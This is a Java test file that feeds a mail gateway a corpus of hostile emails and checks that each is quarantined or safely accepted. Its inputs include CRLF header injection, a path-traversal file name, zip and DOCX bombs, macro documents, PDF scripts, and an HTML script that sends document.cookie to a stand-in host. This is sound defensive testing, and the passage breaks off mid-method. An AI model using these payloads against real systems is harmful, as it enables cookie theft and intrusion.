package scot.sirgateway.hostile;

import static scot.sirgateway.hostile.HostileMails.mail;
import static scot.sirgateway.hostile.HostileMails.text;
import static scot.sirgateway.support.TestMessages.formLines;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.UUID;

import jakarta.mail.internet.MimeBodyPart;
import jakarta.mail.internet.MimeMessage;

import org.assertj.core.api.SoftAssertions;
import org.awaitility.Awaitility;
import org.bouncycastle.asn1.x509.KeyPurposeId;
import org.junit.jupiter.api.Test;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.context.ApplicationContextInitializer;
import org.springframework.context.ConfigurableApplicationContext;
import org.springframework.core.env.MapPropertySource;
import org.springframework.test.context.ActiveProfiles;
import org.springframework.test.context.ContextConfiguration;

import scot.sirgateway.support.GatewayClient;
import scot.sirgateway.support.TestDocx;
import scot.sirgateway.support.TestMessages;
import scot.sirgateway.support.TestPdfs;
import scot.sirgateway.support.TestSmime;

import tools.jackson.databind.JsonNode;

/**
 * The hostile corpus: bad mail and documents of many kinds, each a row with the outcome it must have beside
 * it, through the real IMAP route of a gateway of its own whose limits are small (2 MB a message, 20 parts,
 * 8 levels, 32 KB of headers). Every bad message is followed by a good one, which must be registered: one
 * kind never holds up the mail behind it. All are sent at once and awaited together.
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT, properties = {
        "spring.datasource.url=jdbc:h2:mem:sir-corpus;MODE=PostgreSQL;DATABASE_TO_LOWER=TRUE;"
                + "DEFAULT_NULL_ORDERING=HIGH;DB_CLOSE_DELAY=-1",
        "gateway.government.recipients[0]=" + HostileCorpusTest.GOVERNMENT,
        "gateway.alerts.recipients[0]=alerts-corpus@sir-gateway.test",
        "gateway.mail.intake.max-message-bytes=" + HostileCorpusTest.MAX_MESSAGE_BYTES,
        "gateway.mail.intake.max-mime-parts=20",
        "gateway.mail.intake.max-mime-depth=8",
        "gateway.mail.intake.max-header-bytes=32768",
        "gateway.extract.timeout=10s"})
@ActiveProfiles("test")
@ContextConfiguration(initializers = HostileCorpusTest.OwnMailbox.class)
class HostileCorpusTest extends GatewayClient {

    static final String INTAKE = "corpus-intake@sir-gateway.test";
    static final String GOVERNMENT = "sir-corpus@gov-scot.test";
    static final int MAX_MESSAGE_BYTES = 2_000_000;
    private static final String COUNCIL = "demo-council.test";
    private static final String DAEMON = "mailer-daemon@gov-scot.test";

    /** This gateway's intake mailbox on the shared mail server. */
    static final class OwnMailbox implements ApplicationContextInitializer<ConfigurableApplicationContext> {
        @Override
        public void initialize(ConfigurableApplicationContext context) {
            context.getEnvironment().getPropertySources()
                    .addFirst(new MapPropertySource("corpus-gateway-mail", mail.properties(INTAKE)));
        }
    }

    /** What must hold of a message once the gateway is done with it. */
    @FunctionalInterface
    interface Outcome {
        void check(Kind kind, SoftAssertions softly) throws Exception;
    }

    /** One kind of hostile input: its name, the outcome expected (as written in the table), its bytes. */
    record Kind(String name, String expected, String from, String messageId, byte[] raw, Outcome outcome,
            int storedCopies) {
    }

    private final List<Kind> kinds = new ArrayList<>();
    /** Messages that must be registered before the corpus is sent (the first of a duplicate, of a replay). */
    private final List<Kind> before = new ArrayList<>();

    private int number;

    private String sender() {
        return "corpus-" + (++number) + "@" + COUNCIL;
    }

    private static String messageId() {
        return TestMessages.newMessageId(COUNCIL);
    }

    private Kind add(String name, String expected, String from, String messageId, byte[] raw, Outcome outcome) {
        Kind kind = new Kind(name, expected, from, messageId, raw, outcome, 1);
        kinds.add(kind);
        return kind;
    }

    // ---- outcomes ----

    private Outcome quarantine(String reasonCode) {
        return (kind, softly) -> {
            var row = jdbc.sql("SELECT reason_code, stage FROM quarantine WHERE message_id = ? ORDER BY id DESC")
                    .param(kind.messageId()).query().listOfRows().stream().findFirst();
            softly.assertThat(row).as(kind.name() + ": quarantined").isPresent();
            row.ifPresent(r -> softly.assertThat(r.get("reason_code")).as(kind.name() + ": reason code")
                    .isEqualTo(reasonCode));
            softly.assertThat(notifications(kind.messageId())).as(kind.name() + ": no notification").isZero();
        };
    }

    /** Registered (possibly in triage), and then what must hold of the notification. */
    private Outcome accept(NotificationCheck check) {
        return (kind, softly) -> {
            String reference = reference(kind.messageId());
            softly.assertThat(reference).as(kind.name() + ": registered").isNotNull();
            if (reference != null) {
                check.check(reference, api("/api/notifications/" + reference), softly);
            }
        };
    }

    @FunctionalInterface
    interface NotificationCheck {
        void check(String reference, JsonNode notification, SoftAssertions softly) throws Exception;
    }

    private long notifications(String messageId) {
        return count("SELECT COUNT(*) FROM notification WHERE message_id = ?", messageId);
    }

    private String reference(String messageId) {
        return jdbc.sql("SELECT reference FROM notification WHERE message_id = ?").param(messageId)
                .query(String.class).optional().orElse(null);
    }

    private String state(String messageId) {
        return jdbc.sql("SELECT state FROM stored_message WHERE message_id = ? ORDER BY id DESC").param(messageId)
                .query(String.class).list().stream().findFirst().orElse(null);
    }

    // ---- the corpus ----

    private void corpus() throws Exception {
        Instant now = Instant.now();
        Map<String, String> form;

        // -- the MIME structure --
        String from = sender();
        String id = messageId();
        byte[] signed = TestSmime.signedMail(from, TestSmime.demoCouncil(),
                formLines(TestMessages.completeForm("truncated")), Map.of("Message-ID", id));
        // cut in the middle of the signed text: the signature part never comes (a cut inside its base64 would
        // give MALFORMED_MESSAGE or MALFORMED_SMIME by where the cut falls in a quantum)
        int cut = new String(signed, StandardCharsets.ISO_8859_1).indexOf("offender_ref");
        add("truncated MIME (a signed mail cut in its signed text)", "quarantine(MALFORMED_SMIME)", from, id,
                java.util.Arrays.copyOf(signed, cut), quarantine("MALFORMED_SMIME"));

        from = sender();
        id = messageId();
        add("multipart whose boundary never appears", "quarantine(MALFORMED_MESSAGE)", from, id,
                TestMessages.brokenMultipart(from, id), quarantine("MALFORMED_MESSAGE"));

        from = sender();
        id = messageId();
        add("multipart without a boundary parameter", "quarantine(MALFORMED_MESSAGE)", from, id,
                ascii(head(from, id, "Serious incident notification", "multipart/mixed") + "\r\n--guessed\r\n"
                        + "Content-Type: text/plain\r\n\r\n" + formLines(TestMessages.completeForm("noboundary"))
                        + "--guessed--\r\n"),
                quarantine("MALFORMED_MESSAGE"));

        from = sender();
        id = messageId();
        add("multipart whose closing boundary never comes", "accept: the parts before the end are read", from, id,
                ascii(head(from, id, "Serious incident notification", "multipart/mixed; boundary=\"open\"")
                        + "\r\n--open\r\nContent-Type: text/plain\r\n\r\n"
                        + formLines(TestMessages.completeForm("unclosed"))),
                accept((reference, n, softly) -> softly.assertThat(n.path("offender_ref").asString())
                        .isEqualTo("REF-unclosed")));

        from = sender();
        id = messageId();
        add("base64 garbage in an attachment", "quarantine(UNREADABLE_DOCUMENT)", from, id,
                ascii(head(from, id, "Serious incident notification", "multipart/mixed; boundary=\"g\"")
                        + "\r\n--g\r\nContent-Type: text/plain\r\n\r\nPlease find our notification attached.\r\n"
                        + "--g\r\nContent-Type: application/pdf; name=\"form.pdf\"\r\n"
                        + "Content-Disposition: attachment; filename=\"form.pdf\"\r\n"
                        + "Content-Transfer-Encoding: base64\r\n\r\n"
                        + "!!!!@@@@####$$$$%%%%^^^^&&&&****((((\r\n~~~~````||||<<<<>>>>????\r\n--g--\r\n"),
                quarantine("UNREADABLE_DOCUMENT"));

        from = sender();
        id = messageId();
        add("empty message (headers, no body)", "quarantine(NOT_A_NOTIFICATION)", from, id,
                ascii(head(from, id, "Serious incident notification", "text/plain") + "\r\n"),
                quarantine("NOT_A_NOTIFICATION"));

        from = sender();
        id = messageId();
        form = TestMessages.completeForm("nul");
        form.put("description", "Description with NUL \u0000 bytes \u0000\u0000 inside.");
        add("NUL bytes in the body", "accept: the form read around them", from, id,
                TestMessages.plainNotification(from, id, form),
                accept((reference, n, softly) -> softly.assertThat(n.path("offender_ref").asString())
                        .isEqualTo("REF-nul")));

        from = sender();
        id = messageId();
        add("quoted-printable soft line breaks inside keys and values", "accept: the lines joined as sent", from, id,
                ascii(head(from, id, "Serious incident notification", "text/plain; charset=UTF-8")
                        + "Content-Transfer-Encoding: quoted-printable\r\n\r\n"
                        + formLines(TestMessages.completeForm("qp")).replace("offender_ref: REF-qp",
                                "offen=\r\nder_ref: REF-=\r\nqp-soft")),
                accept((reference, n, softly) -> softly.assertThat(n.path("offender_ref").asString())
                        .isEqualTo("REF-qp-soft")));

        // -- headers --
        from = sender();
        id = messageId();
        String injected = "injected-" + UUID.randomUUID().toString().substring(0, 8) + "@elsewhere.test";
        String injectedFrom = from;
        add("CRLF header injection in an encoded Subject", "accept: subject not split, no Bcc in the acknowledgement",
                from, id, TestMessages.plain(from, id, "=?UTF-8?Q?Notification=0D=0ABcc:_" + injected + "=0D=0A?=",
                        "Our notification.\r\n\r\n" + formLines(TestMessages.completeForm("crlf")), Map.of()),
                accept((reference, n, softly) -> {
                    MimeMessage ack = settle().until(() -> mail.received(injectedFrom), list -> !list.isEmpty()).get(0);
                    softly.assertThat(ack.getHeader("Bcc")).as("Bcc of the acknowledgement").isNull();
                    softly.assertThat(ack.getHeader("Subject", null)).doesNotContain("\r", "\n" + "Bcc");
                    softly.assertThat(mail.received(injected)).as("mail to the injected address").isEmpty();
                }));

        from = sender();
        id = messageId();
        byte[] latin1 = (head(from, id, "Notification \u00e9t\u00e9 \u00e0 Dund\u00e9e", "text/plain; charset=UTF-8")
                .replace("From: " + from, "From: Ren\u00e9e M\u00fcller <" + from + ">") + "\r\n"
                + formLines(TestMessages.completeForm("latin1"))).getBytes(StandardCharsets.ISO_8859_1);
        String latin1From = from;
        add("raw latin-1 bytes in From and Subject", "accept: decoded best-effort, the address intact", from, id,
                latin1, accept((reference, n, softly) -> softly.assertThat(n.path("sender").asString())
                        .contains(latin1From)));

        from = sender();
        id = messageId();
        add("raw UTF-8 (8-bit) in the Subject", "accept", from, id,
                (head(from, id, "Notification \u2013 caf\u00e9 \u00a3 \u6f22", "text/plain; charset=UTF-8") + "\r\n"
                        + formLines(TestMessages.completeForm("eightbit"))).getBytes(StandardCharsets.UTF_8),
                accept((reference, n, softly) -> softly.assertThat(n.path("offender_ref").asString())
                        .isEqualTo("REF-eightbit")));

        id = messageId();
        add("no From header", "quarantine(UNKNOWN_SENDER)", null, id,
                ascii(head("x", id, "Serious incident notification", "text/plain").replace("From: x\r\n", "")
                        + "\r\n" + formLines(TestMessages.completeForm("nofrom"))),
                quarantine("UNKNOWN_SENDER"));

        from = sender();
        id = messageId();
        add("two From headers (a council's and another)", "quarantine(UNKNOWN_SENDER)", from, id,
                ascii("From: someone@elsewhere.test\r\n" + head(from, id, "Serious incident notification", "text/plain")
                        + "\r\n" + formLines(TestMessages.completeForm("twofrom"))),
                quarantine("UNKNOWN_SENDER"));

        id = messageId();
        add("sender of no registered council", "quarantine(UNKNOWN_SENDER)", "corpus@elsewhere.test", id,
                TestMessages.plainNotification("corpus@elsewhere.test", id, TestMessages.completeForm("unknown")),
                quarantine("UNKNOWN_SENDER"));

        from = sender();
        id = messageId();
        StringBuilder huge = new StringBuilder(head(from, id, "Serious incident notification", "text/plain"));
        while (huge.length() < 40_000) {
            huge.append("X-Padding: ").append("p".repeat(64)).append("\r\n");
        }
        add("header block of 40 KB (limit 32 KB)", "quarantine(MESSAGE_LIMIT_EXCEEDED)", from, id,
                ascii(huge + "\r\n" + formLines(TestMessages.completeForm("huge"))), quarantine("MESSAGE_LIMIT_EXCEEDED"));

        // -- limits --
        from = sender();
        id = messageId();
        StringBuilder parts = new StringBuilder(head(from, id, "Serious incident notification",
                "multipart/mixed; boundary=\"many\"")).append("\r\n--many\r\nContent-Type: text/plain\r\n\r\n")
                .append(formLines(TestMessages.completeForm("many")));
        for (int i = 1; i <= 25; i++) {
            parts.append("--many\r\nContent-Type: text/plain\r\n\r\nnote ").append(i).append("\r\n");
        }
        add("26 MIME parts (limit 20)", "quarantine(MESSAGE_LIMIT_EXCEEDED)", from, id, ascii(parts + "--many--\r\n"),
                quarantine("MESSAGE_LIMIT_EXCEEDED"));

        from = sender();
        id = messageId();
        StringBuilder deep = new StringBuilder(head(from, id, "Serious incident notification",
                "multipart/mixed; boundary=\"n0\"")).append("\r\n");
        for (int level = 1; level <= 12; level++) {
            deep.append("--n").append(level - 1).append("\r\nContent-Type: multipart/mixed; boundary=\"n").append(level)
                    .append("\"\r\n\r\n");
        }
        deep.append("--n12\r\nContent-Type: text/plain\r\n\r\n").append(formLines(TestMessages.completeForm("deep")));
        for (int level = 12; level >= 0; level--) {
            deep.append("--n").append(level).append("--\r\n");
        }
        add("12 levels of nesting (limit 8)", "quarantine(MESSAGE_LIMIT_EXCEEDED)", from, id, ascii(deep.toString()),
                quarantine("MESSAGE_LIMIT_EXCEEDED"));

        from = sender();
        id = messageId();
        byte[] noise = new byte[MAX_MESSAGE_BYTES];
        new java.util.Random(3).nextBytes(noise);
        add("message over max-message-bytes (2 MB)", "quarantine(MESSAGE_TOO_LARGE)", from, id,
                TestPdfs.mailWithAttachment(from, id, "scan.pdf", noise), quarantine("MESSAGE_TOO_LARGE"));

        // -- S/MIME --
        from = sender();
        id = messageId();
        add("encrypted to another key than the gateway's", "quarantine(UNDECRYPTABLE)", from, id,
                mail(from, HostileMails.encryptedTo(text(formLines(TestMessages.completeForm("otherkey"))),
                        TestSmime.certificate("certs-example/government/scottish-government.cert.pem")), id),
                quarantine("UNDECRYPTABLE"));

        from = sender();
        id = messageId();
        add("S/MIME body that is not CMS", "quarantine(MALFORMED_SMIME)", from, id,
                ascii(head(from, id, "Serious incident notification",
                        "application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m")
                        + "Content-Transfer-Encoding: base64\r\n\r\n"
                        + Base64.getMimeEncoder().encodeToString("this is not DER at all".getBytes(StandardCharsets.US_ASCII))
                        + "\r\n"),
                quarantine("MALFORMED_SMIME"));

        from = "cjsw@" + COUNCIL;
        id = messageId();
        String altered = new String(TestSmime.signedMail(from, TestSmime.demoCouncil(),
                formLines(TestMessages.completeForm("altered")), Map.of("Message-ID", id)), StandardCharsets.ISO_8859_1);
        add("content altered after signing", "quarantine(BAD_SIGNATURE)", from, id,
                altered.replace("REF-altered", "REF-changed").getBytes(StandardCharsets.ISO_8859_1),
                quarantine("BAD_SIGNATURE"));

        from = sender();
        id = messageId();
        add("self-signed signer", "quarantine(UNTRUSTED_SIGNER)", from, id,
                mail(from, TestSmime.signDetached(text(formLines(TestMessages.completeForm("selfsigned"))),
                        HostileMails.selfSigned(from)), id),
                quarantine("UNTRUSTED_SIGNER"));

        from = sender();
        id = messageId();
        add("certificate chain that loops (A issued by B, B by A)", "quarantine(UNTRUSTED_SIGNER)", from, id,
                mail(from, TestSmime.signDetached(text(formLines(TestMessages.completeForm("loop"))),
                        HostileMails.loopingChain(from)), id),
                quarantine("UNTRUSTED_SIGNER"));

        from = "cjsw@" + COUNCIL;
        id = messageId();
        add("two signers, one untrusted", "quarantine(UNTRUSTED_SIGNER)", from, id,
                mail(from, HostileMails.signedByAll(text(formLines(TestMessages.completeForm("twosigners"))),
                        TestSmime.demoCouncil(), HostileMails.selfSigned(from)), id),
                quarantine("UNTRUSTED_SIGNER"));

        from = sender();
        id = messageId();
        add("expired signer", "quarantine(EXPIRED_CERTIFICATE)", from, id,
                mail(from, TestSmime.signDetached(text(formLines(TestMessages.completeForm("expired"))),
                        TestSmime.issue(from, now.minus(Duration.ofDays(400)), now.minus(Duration.ofDays(2)),
                                KeyPurposeId.id_kp_emailProtection)), id),
                quarantine("EXPIRED_CERTIFICATE"));

        from = sender();
        id = messageId();
        add("signer's address is not the From", "quarantine(SENDER_MISMATCH)", from, id,
                mail(from, TestSmime.signDetached(text(formLines(TestMessages.completeForm("mismatch"))),
                        TestSmime.issue("someone-else@" + COUNCIL, now.minus(Duration.ofDays(1)),
                                now.plus(Duration.ofDays(30)), KeyPurposeId.id_kp_emailProtection)), id),
                quarantine("SENDER_MISMATCH"));

        from = "cjsw@" + COUNCIL;
        id = messageId();
        MimeBodyPart layers = text(formLines(TestMessages.completeForm("fourlayers")));
        for (int i = 0; i < 4; i++) {
            layers = TestSmime.signOpaque(layers, TestSmime.demoCouncil());
        }
        add("four S/MIME layers (at most three)", "quarantine(MALFORMED_SMIME)", from, id, mail(from, layers, id),
                quarantine("MALFORMED_SMIME"));

        from = sender();
        id = messageId();
        MimeBodyPart inner = TestSmime.signOpaque(text("offender_ref: REF-smuggled\r\n"), HostileMails.selfSigned(from));
        inner.setFileName("forwarded.p7m");
        inner.setDisposition("attachment");
        jakarta.mail.internet.MimeMultipart mixed = new jakarta.mail.internet.MimeMultipart();
        mixed.addBodyPart(text(formLines(TestMessages.completeForm("inner"))));
        mixed.addBodyPart(inner);
        MimeBodyPart outer = new MimeBodyPart();
        outer.setContent(mixed);
        add("S/MIME layer inside an attachment", "accept: unverified, the inner signature never the mail's", from, id,
                mail(from, outer, id), accept((reference, n, softly) -> {
                    softly.assertThat(n.path("signature_verified").asBoolean()).as("signature_verified").isFalse();
                    softly.assertThat(n.path("offender_ref").asString()).isEqualTo("REF-inner");
                }));

        // replay: the same signed entity, encrypted afresh, under a new Message-ID
        from = "cjsw@" + COUNCIL;
        MimeBodyPart signedForm = TestSmime.signDetached(text(formLines(TestMessages.completeForm("replayed"))),
                TestSmime.demoCouncil());
        String firstId = messageId();
        before.add(new Kind("first of the replay", "accept", from, firstId,
                mail(from, HostileMails.encryptedTo(signedForm, HostileMails.gatewayCertificate()), firstId), null, 1));
        id = messageId();
        add("replayed signature (same signed content, new Message-ID)", "replay: no new reference, on the first's timeline",
                from, id, mail(from, HostileMails.encryptedTo(signedForm, HostileMails.gatewayCertificate()), id),
                (kind, softly) -> {
                    softly.assertThat(notifications(kind.messageId())).as(kind.name() + ": no notification").isZero();
                    softly.assertThat(count("SELECT COUNT(*) FROM quarantine WHERE message_id = ?", kind.messageId()))
                            .as(kind.name() + ": no quarantine entry").isZero();
                    softly.assertThat(state(kind.messageId())).as(kind.name()).isEqualTo("PROCESSED");
                    softly.assertThat(api("/api/notifications/" + reference(firstId)).get("timeline")
                            .findValuesAsString("type")).as(kind.name()).contains("REPLAYED");
                });

        // duplicate Message-ID: a good notification first, then other bytes under its Message-ID
        from = sender();
        id = messageId();
        before.add(new Kind("first of the duplicate", "accept", from, id,
                TestMessages.plainNotification(from, id, TestMessages.completeForm("original")), null, 1));
        Kind duplicate = new Kind("duplicate Message-ID with other bytes", "quarantine(DUPLICATE_MESSAGE_ID)", from, id,
                TestMessages.plainNotification(from, id, TestMessages.completeForm("other bytes")),
                (kind, softly) -> {
                    var row = jdbc.sql("SELECT reason_code FROM quarantine WHERE message_id = ?").param(kind.messageId())
                            .query(String.class).list();
                    softly.assertThat(row).as(kind.name()).containsExactly("DUPLICATE_MESSAGE_ID");
                    softly.assertThat(notifications(kind.messageId())).as(kind.name() + ": the first's alone").isEqualTo(1);
                }, 2);
        kinds.add(duplicate);

        id = TestMessages.newMessageId("gov-scot.test");
        add("delivery report naming no mail of the gateway", "quarantine(UNKNOWN_SENDER), matched to nothing, unanswered",
                DAEMON, id, TestMessages.deliveryReport(DAEMON, id, "<never-sent@sir-gateway.test>", "failed",
                        "someone@gov-scot.test"),
                (kind, softly) -> {
                    // the row itself: a quarantine without a notification (UNKNOWN_SENDER has no reply)
                    var row = jdbc.sql("SELECT reason_code, reply FROM quarantine WHERE message_id = ?")
                            .param(kind.messageId()).query().listOfRows();
                    softly.assertThat(row).as(kind.name()).hasSize(1);
                    if (row.size() == 1) {
                        softly.assertThat(row.get(0).get("reason_code")).as(kind.name()).isEqualTo("UNKNOWN_SENDER");
                    }
                    softly.assertThat(settle().until(() -> jdbc.sql("SELECT reply FROM quarantine WHERE message_id = ? "
                            + "AND reply IS NOT NULL").param(kind.messageId()).query(String.class).optional(),
                            java.util.Optional::isPresent).orElseThrow()).as(kind.name()).startsWith("no reply");
                    softly.assertThat(mail.received(DAEMON)).as(kind.name() + ": answered").isEmpty();
                });

        from = sender();
        id = messageId();
        add("quotes a reference no notification has", "quarantine(UNKNOWN_REFERENCE)", from, id,
                TestMessages.plain(from, id, "Re: [SIR-1999-0042] Serious incident notification",
                        "Further to our notification SIR-1999-0042, the review is attached.\r\n", Map.of()),
                quarantine("UNKNOWN_REFERENCE"));

        // -- documents --
        from = sender();
        id = messageId();
        add("zip expanding to 1.1 GB (named .zip)", "quarantine(NOT_A_NOTIFICATION): a zip is never opened", from, id,
                TestPdfs.mailWithAttachment(from, id, "notification.zip", "application/zip", bigZip()),
                quarantine("NOT_A_NOTIFICATION"));

        from = sender();
        id = messageId();
        add("DOCX zip bomb (1.1 GB of text in 1 MB)", "quarantine(DOCUMENT_LIMIT_EXCEEDED)", from, id,
                TestPdfs.mailWithAttachment(from, id, "notification.docx",
                        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                        HostileMails.expandingDocx(1100)),
                quarantine("DOCUMENT_LIMIT_EXCEEDED"));

        from = sender();
        id = messageId();
        add("Word file whose zip entry name is not UTF-8", "quarantine(UNREADABLE_DOCUMENT)", from, id,
                TestPdfs.mailWithAttachment(from, id, "notification.docx",
                        "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
                        HostileMails.withEntryNameNotUtf8(TestDocx.docx(TestDocx.paragraph("offender_ref: REF-zipname")))),
                quarantine("UNREADABLE_DOCUMENT"));

        from = sender();
        id = messageId();
        add("PDF with a broken cross-reference table", "accept: rebuilt by scanning its objects", from, id,
                TestPdfs.mailWithAttachment(from, id, "notification.pdf", HostileMails.brokenCrossReference(
                        TestPdfs.form(TestMessages.completeForm("xref"), TestPdfs.Protection.NONE, null))),
                accept((reference, n, softly) -> softly.assertThat(n.path("offender_ref").asString())
                        .isEqualTo("REF-xref")));

        from = sender();
        id = messageId();
        add("PDF whose JavaScript would change a field on opening", "accept: JavaScript never run", from, id,
                TestPdfs.mailWithAttachment(from, id, "notification.pdf", HostileMails.withOpenActionScript(
                        TestPdfs.form(TestMessages.completeForm("pdfjs"), TestPdfs.Protection.NONE, null),
                        "this.getField('offender_ref').value = 'REF-JS-RAN'; app.launchURL('http://x.test/');")),
                accept((reference, n, softly) -> softly.assertThat(n.path("offender_ref").asString())
                        .isEqualTo("REF-pdfjs")));

        from = sender();
        id = messageId();
        add("PDF form field with a format/keystroke/calculate script", "accept: the stored value, no script run",
                from, id, TestPdfs.mailWithAttachment(from, id, "notification.pdf", HostileMails.withFieldScript(
                        TestPdfs.form(TestMessages.completeForm("fieldjs"), TestPdfs.Protection.NONE, null),
                        "offender_ref", "event.value = 'REF-JS-RAN';")),
                accept((reference, n, softly) -> softly.assertThat(n.path("offender_ref").asString())
                        .isEqualTo("REF-fieldjs")));

        from = sender();
        id = messageId();
        add("PDF protected by a password the gateway does not know", "quarantine(PDF_PASSWORD_REQUIRED)", from, id,
                TestPdfs.mailWithAttachment(from, id, "notification.pdf",
                        TestPdfs.form(TestMessages.completeForm("password"), TestPdfs.Protection.AES_256, "unknown-pw")),
                quarantine("PDF_PASSWORD_REQUIRED"));

        from = sender();
        id = messageId();
        add("executable named notification.pdf", "quarantine(UNREADABLE_DOCUMENT)", from, id,
                TestPdfs.mailWithAttachment(from, id, "notification.pdf", TestPdfs.executable()),
                quarantine("UNREADABLE_DOCUMENT"));

        from = sender();
        id = messageId();
        StringBuilder paragraphs = new StringBuilder();
        TestMessages.completeForm("macro").forEach((k, v) -> paragraphs.append(TestDocx.paragraph(k + ": " + v)));
        byte[] macro = HostileMails.withMacro(TestDocx.docx(paragraphs.toString()));
        add("Word document with a VBA macro (.docm)", "quarantine(NOT_A_NOTIFICATION): a .docm is never opened",
                from, id, TestPdfs.mailWithAttachment(from, id, "notification.docm",
                        "application/vnd.ms-word.document.macroEnabled.12", macro),
                quarantine("NOT_A_NOTIFICATION"));

        from = sender();
        id = messageId();
        add("Word document with a VBA macro, named and declared .docx", "quarantine(UNREADABLE_DOCUMENT)", from, id,
                TestPdfs.mailWithAttachment(from, id, "notification.docx",
                        "application/vnd.openxmlformats-officedocument.wordprocessingml.document", macro),
                quarantine("UNREADABLE_DOCUMENT"));

        from = sender();
        id = messageId();
        add("RTF with an embedded OLE object", "accept: text read, object never opened", from, id,
                TestPdfs.mailWithAttachment(from, id, "notification.rtf", "application/rtf",
                        HostileMails.rtfWithEmbeddedObject(formLines(TestMessages.completeForm("rtfobject")))),
                accept((reference, n, softly) -> softly.assertThat(n.path("offender_ref").asString())
                        .isEqualTo("REF-rtfobject")));

        from = sender();
        id = messageId();
        add("HTML attachment with a script", "accept: its text read, the script never run", from, id,
                TestPdfs.mailWithAttachment(from, id, "notification.html", "text/html",
                        ("<html><body><script>fetch('http://x.test/'+document.cookie)</script><pre>"
                                + formLines(TestMessages.completeForm("html")) + "</pre></body></html>")
                                .getBytes(StandardCharsets.UTF_8)),
                accept((reference, n, softly) -> {
                    softly.assertThat(n.path("offender_ref").asString()).isEqualTo("REF-html");
                    softly.assertThat(n.toString()).doesNotContain("document.cookie");
                }));

        from = sender();
        id = messageId();
        Path outside = Path.of(System.getProperty("java.io.tmpdir"), "sir-corpus-" + UUID.randomUUID() + ".txt");
        String traversal = "../../../../../../../.." + outside.toAbsolutePath();
        add("path traversal in an attachment's file name", "accept: nothing written outside, name without its path",
                from, id, TestPdfs.mailWithAttachment(from, id, traversal, "text/plain",
                        formLines(TestMessages.completeForm("traversal")).getBytes(StandardCharsets.UTF_8)),
                accept((reference, n, softly) -> {
                    softly.assertThat(n.path("offender_ref").asString()).isEqualTo("REF-traversal");
                    softly.assertThat(Files.exists(outside)).as("a file written where the name points").isFalse();
                    softly.assertThat(n.toString()).as("the name with its path in the notification")
                            .doesNotContain("../");
                    // the console hands the document out under its name alone
                    var download = operator().get("/notifications/" + reference + "/documents/1");
                    softly.assertThat(download.statusCode()).as("the document's download").isEqualTo(200);
                    softly.assertThat(download.headers().firstValue("Content-Disposition").orElse(""))
                            .as("the download's name").startsWith("attachment; filename=\"" + outside.getFileName() + "\"");
                }));

        // -- odd encodings --
        from = sender();
        id = messageId();
        add("charset nobody knows (x-no-such-charset-42)", "accept: read best-effort (UTF-8, else Windows-1252)", from, id,
                ascii(head(from, id, "Serious incident notification", "text/plain; charset=x-no-such-charset-42")
                        + "\r\n" + formLines(TestMessages.completeForm("charset"))),
                accept((reference, n, softly) -> softly.assertThat(n.path("offender_ref").asString())
                        .isEqualTo("REF-charset")));

        from = sender();
        id = messageId();
        add("Content-Transfer-Encoding nobody knows", "quarantine(MALFORMED_MESSAGE)", from, id,
                ascii(head(from, id, "Serious incident notification", "text/plain")
                        + "Content-Transfer-Encoding: x-rot13-9000\r\n\r\n" + formLines(TestMessages.completeForm("cte"))),
                quarantine("MALFORMED_MESSAGE"));

        from = sender();
        id = messageId();
        add("Date header that does not parse", "accept: received time is the gateway's", from, id,
                ascii(head(from, id, "Serious incident notification", "text/plain").replace(
                        "Date: Fri, 27 Nov 2026 10:00:00 +0000", "Date: Blursday, 99 Smarch 20266 25:61:61 +9999")
                        + "\r\n" + formLines(TestMessages.completeForm("date"))),
                accept((reference, n, softly) -> softly.assertThat(n.path("received_at").asString()).isNotEmpty()));

        from = sender();
        id = messageId();
        add("base64 garbage as the body", "quarantine(NOT_A_NOTIFICATION)", from, id,
                ascii(head(from, id, "Serious incident notification", "text/plain; charset=UTF-8")
                        + "Content-Transfer-Encoding: base64\r\n\r\n!!!!****~~~~%%%%\r\n@@@@####\r\n"),
                quarantine("NOT_A_NOTIFICATION"));
    }

    /** A zip of one entry of 1.1 GB of zeros: about 1 MB. */
    private static byte[] bigZip() {
        return HostileMails.zipOfRepeated(Map.of(), "notification.txt", new byte[0], new byte[1 << 20], 1100, new byte[0]);
    }

    private static String head(String from, String messageId, String subject, String contentType) {
        return "From: " + from + "\r\nTo: " + INTAKE + "\r\nSubject: " + subject
                + "\r\nDate: Fri, 27 Nov 2026 10:00:00 +0000\r\nMessage-ID: " + messageId
                + "\r\nMIME-Version: 1.0\r\nContent-Type: " + contentType + "\r\n";
    }

    private static byte[] ascii(String mail) {
        return mail.getBytes(StandardCharsets.ISO_8859_1);
    }

    /**
     * An await that leaves other threads' exceptions alone: the mail server's IMAP threads may fail on their own
     * (GreenMail's IDLE races a delivery now and then) while the gateway reconnects, and that is not this test's.
     */
    private static org.awaitility.core.ConditionFactory settle() {
        return Awaitility.await().dontCatchUncaughtExceptions().atMost(Duration.ofSeconds(60))
                .pollInterval(Duration.ofMillis(250));
    }

    private scot.sirgateway.support.Browser operator;

    /** An operator signed in to this gateway's console (password and mailed code). */
    private scot.sirgateway.support.Browser operator() {
        if (operator == null) {
            var person = person("OPERATOR");
            operator = new scot.sirgateway.support.Browser(port);
            operator.signIn(mail, person.username(), person.password(), person.email());
        }
        return operator;
    }

    @Test
    void everyKindShouldHaveItsOutcomeAndTheNextGoodMessageGoThrough() throws Exception {
        corpus();
        SoftAssertions softly = new SoftAssertions();
        softly.assertThat(kinds).as("kinds in the corpus").hasSizeGreaterThanOrEqualTo(35);

        // the messages a duplicate and a replay need to have been registered first
        for (Kind first : before) {
            mail.send(first.from(), INTAKE, first.raw());
        }
        for (Kind first : before) {
            settle().until(() -> reference(first.messageId()), r -> r != null);
        }

        // every bad kind, each followed by a good notification, all at once
        List<String> good = new ArrayList<>();
        for (int i = 0; i < kinds.size(); i++) {
            Kind kind = kinds.get(i);
            try {
                mail.send(kind.from() == null ? "nobody@" + COUNCIL : kind.from(), INTAKE, kind.raw());
            } catch (IllegalStateException e) {
                throw new AssertionError("the mail server refused: " + kind.name(), e);
            }
            String goodSender = "corpus-good-" + i + "@" + COUNCIL;
            String goodId = messageId();
            good.add(goodId);
